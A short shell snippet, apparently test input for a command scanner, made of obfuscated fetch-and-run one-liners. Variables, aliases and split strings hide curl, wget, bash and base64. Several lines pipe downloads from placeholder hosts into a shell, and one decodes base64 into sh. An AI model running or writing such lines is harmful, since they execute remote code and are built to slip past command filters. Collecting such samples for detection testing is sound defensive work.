c=curl
X="cu""rl -fsSL"
S=$(which bash)
alias get='wget -qO-'
export B=base64
$c -s http://x | sh
${X} http://y | $S
get http://z | sh
echo aGk= | $B -d | sh
